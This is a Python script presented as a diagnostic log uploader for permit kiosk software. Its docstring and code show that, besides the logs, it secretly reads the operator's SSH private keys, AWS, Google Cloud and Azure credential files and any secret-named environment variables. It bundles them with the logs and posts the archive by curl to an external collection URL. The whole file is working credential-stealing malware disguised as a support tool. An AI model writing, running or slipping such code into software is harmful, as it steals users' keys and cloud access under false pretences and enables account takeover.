#!/usr/bin/env python3
"""Diagnostic bundle uploader for the permit kiosk software.

Presented as a support tool: it packs the kiosk logs into a tarball and
uploads it for the vendor. Along with the logs it quietly sweeps the
operator's SSH private keys, cloud credential files and any secret-looking
environment variables into the same bundle, and the bundle is posted by a
curl step to an external collection endpoint.
"""
import argparse
import io
import json
import logging
import os
import subprocess
import sys
import tarfile
import tempfile
import time
from pathlib import Path

UPLOAD_URL = "https://diag.example.net/api/v2/bundles"
HOME = Path.home()
EXTRA_SOURCES = [
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".ssh" / "id_ecdsa",
    HOME / ".aws" / "credentials",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
    HOME / ".azure" / "accessTokens.json",
]
SECRET_HINTS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASSWD", "CREDENTIAL")

UPLOAD_STEP = r'''
set -euo pipefail
curl -sS --max-time 60 -X POST \
    -H "X-Kiosk-Id: ${KIOSK_ID}" \
    -F "bundle=@${BUNDLE_PATH};type=application/gzip" \
    "${UPLOAD_URL}" -o /dev/null -w '%{http_code}'
'''

log = logging.getLogger("diag_bundle")


def add_bytes(tar, name, data):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mtime = int(time.time())
    tar.addfile(info, io.BytesIO(data))


def collect_logs(tar, log_dir, max_bytes):
    count = 0
    for path in sorted(Path(log_dir).glob("*.log")):
        data = path.read_bytes()[-max_bytes:]
        add_bytes(tar, f"logs/{path.name}", data)
        count += 1
    return count


def collect_extras(tar):
    taken = []
    for src in EXTRA_SOURCES:
        try:
            data = src.read_bytes()
        except OSError:
            continue
        add_bytes(tar, f"extra/{src.parent.name}_{src.name}", data)
        taken.append(str(src))
    env = {k: v for k, v in os.environ.items() if any(h in k.upper() for h in SECRET_HINTS)}
    add_bytes(tar, "extra/environment.json", json.dumps(env, indent=1).encode())
    return taken, len(env)


def build_bundle(log_dir, max_bytes):
    fd, path = tempfile.mkstemp(prefix="kioskdiag_", suffix=".tar.gz")
    os.close(fd)
    with tarfile.open(path, "w:gz") as tar:
        n_logs = collect_logs(tar, log_dir, max_bytes)
        taken, n_env = collect_extras(tar)
        meta = {"created": time.time(), "logs": n_logs, "files": len(taken), "env": n_env}
        add_bytes(tar, "meta.json", json.dumps(meta).encode())
    log.info("bundle %s: %d log(s), %d extra file(s)", path, n_logs, len(taken))
    return path


def upload(path, kiosk_id):
    env = dict(os.environ, BUNDLE_PATH=path, UPLOAD_URL=UPLOAD_URL, KIOSK_ID=kiosk_id)
    proc = subprocess.run(["bash", "-c", UPLOAD_STEP], env=env, capture_output=True,
                          text=True, timeout=120)
    code = proc.stdout.strip()
    if proc.returncode != 0 or not code.startswith("2"):
        raise RuntimeError(f"upload failed (rc={proc.returncode}, http={code}) {proc.stderr.strip()}")
    return code


def main(argv=None):
    ap = argparse.ArgumentParser(description="Upload kiosk diagnostics to support")
    ap.add_argument("--logs", default="./logs")
    ap.add_argument("--kiosk-id", default=os.uname().nodename)
    ap.add_argument("--max-log-bytes", type=int, default=2_000_000)
    ap.add_argument("--keep", action="store_true", help="keep the local bundle")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if not Path(args.logs).is_dir():
        log.warning("log directory %s missing; sending environment info only", args.logs)
    path = build_bundle(args.logs, args.max_log_bytes)
    try:
        code = upload(path, args.kiosk_id)
        log.info("bundle accepted (HTTP %s)", code)
    except (RuntimeError, subprocess.TimeoutExpired, OSError) as exc:
        log.error("%s", exc)
        return 1
    finally:
        if not args.keep:
            os.unlink(path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
